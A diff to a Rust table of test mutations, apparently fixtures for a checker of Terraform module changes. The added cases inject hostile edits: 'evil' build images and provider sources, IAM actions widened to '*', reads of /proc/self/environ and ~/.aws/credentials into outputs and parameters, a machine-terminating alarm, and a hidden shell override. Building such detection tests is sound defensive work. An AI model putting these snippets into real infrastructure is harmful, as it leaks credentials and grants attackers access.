@@ -153,7 +153,10 @@ pub(super) const KINDS: &[Kind] = &[
     ),
     // Code that runs.
     Kind("another image of builds", &[Replace("= var.build_machine_image", "= \"evil/image\"")]),
-    Kind("another default of the image", &[Replace("\"aws/codebuild/", "\"evil/codebuild/")]),
+    Kind(
+        "another default of the image",
+        &[Replace("  default     = \"aws/codebuild/", "  default     = \"evil/codebuild/")],
+    ),
     Kind(
         "the image from a file of values",
         &[
@@ -396,5 +399,87 @@ pub(super) const KINDS: &[Kind] = &[
     Kind(
         "something that is no longer Terraform's",
         &[Append("main.tf", "removed {\n  from = aws_s3_bucket.old\n  lifecycle {\n    destroy = false\n  }\n}")],
+    ),
+    // From an attack on 28 November 2026: what another caller, another folder or another reader makes of it.
+    Kind("a file of the caller's folder", &[Replace("file(\"${path.module}/buildspecs/", "file(\"buildspecs/")]),
+    Kind(
+        "a choice by a file of the caller's folder",
+        &[Replace("Effect   = \"Allow\"", "Effect   = fileexists(\"variables.tf\") ? \"Allow\" : \"Deny\"")],
+    ),
+    Kind(
+        "a choice by a variable that chooses nothing there",
+        &[Replace("block_public_policy     = true", "block_public_policy     = length(var.tags) == 0")],
+    ),
+    Kind(
+        "an action by a variable",
+        &[Replace("Action   = \"", "Action   = var.permissions_boundary != null ? \"*\" : \"")],
+    ),
+    Kind(
+        "a principal by a variable of its own",
+        &[
+            Replace(
+                "Service = \"codepipeline.amazonaws.com\"",
+                "Service = var.debug ? \"ec2.amazonaws.com\" : \"codepipeline.amazonaws.com\"",
+            ),
+            Append("variables.tf", "variable \"debug\" {\n  type    = bool\n  default = false\n}"),
+        ],
+    ),
+    Kind(
+        "a line that ends in a comment for some readers",
+        &[Replace("version: 0.2", "# hi\u{2028}env: {shell: evil}\nversion: 0.2")],
+    ),
+    Kind(
+        "a provider from elsewhere besides",
+        &[Replace("    aws = {", "    evil = {\n      source = \"evil/evil\"\n    }\n    aws = {")],
+    ),
+    Kind(
+        "a provider of random ids from elsewhere",
+        &[
+            Replace("    aws = {", "    random = {\n      source = \"evil/random\"\n    }\n    aws = {"),
+            Append("own.tf", "resource \"random_id\" \"own\" {\n  byte_length = 4\n}"),
+        ],
+    ),
+    Kind(
+        "an alarm that ends machines",
+        &[Append(
+            "own.tf",
+            "resource \"aws_cloudwatch_metric_alarm\" \"own\" {\n  alarm_name    = \"own\"\n  alarm_actions = [\"arn:aws:automate:eu-west-1:ec2:terminate\"]\n}",
+        )],
+    ),
+    Kind(
+        "a table made of artifacts",
+        &[Append(
+            "own.tf",
+            "resource \"aws_dynamodb_table\" \"own\" {\n  name = \"own\"\n  import_table {\n    input_format = \"CSV\"\n    s3_bucket_source {\n      bucket = aws_s3_bucket.artifacts.bucket\n    }\n  }\n}",
+        )],
+    ),
+    Kind(
+        "a topic with a role of the module",
+        &[Append(
+            "own.tf",
+            "resource \"aws_sns_topic\" \"own\" {\n  name                             = \"own\"\n  lambda_success_feedback_role_arn = aws_iam_role.pipeline.arn\n}",
+        )],
+    ),
+    Kind(
+        "a secret of the machine in a description",
+        &[Replace("  description          = \"", "  description          = filebase64(\"/proc/self/environ\") #")],
+    ),
+    Kind(
+        "a secret of the machine in an output",
+        &[Append("outputs.tf", "output \"own\" {\n  value = filebase64(\"/proc/self/environ\")\n}")],
+    ),
+    Kind(
+        "a secret of the machine in a parameter",
+        &[Append(
+            "own.tf",
+            "resource \"aws_ssm_parameter\" \"own\" {\n  name  = \"/own\"\n  type  = \"String\"\n  value = file(pathexpand(\"~/.aws/credentials\"))\n}",
+        )],
+    ),
+    Kind(
+        "a picture that runs a function",
+        &[Append(
+            "own.tf",
+            "resource \"aws_cloudwatch_dashboard\" \"own\" {\n  dashboard_name = \"own\"\n  dashboard_body = jsonencode({ widgets = [{ type = \"custom\", properties = { endpoint = \"arn:aws:lambda:us-east-1:999999999999:function:evil\" } }] })\n}",
+        )],
     ),
 ];
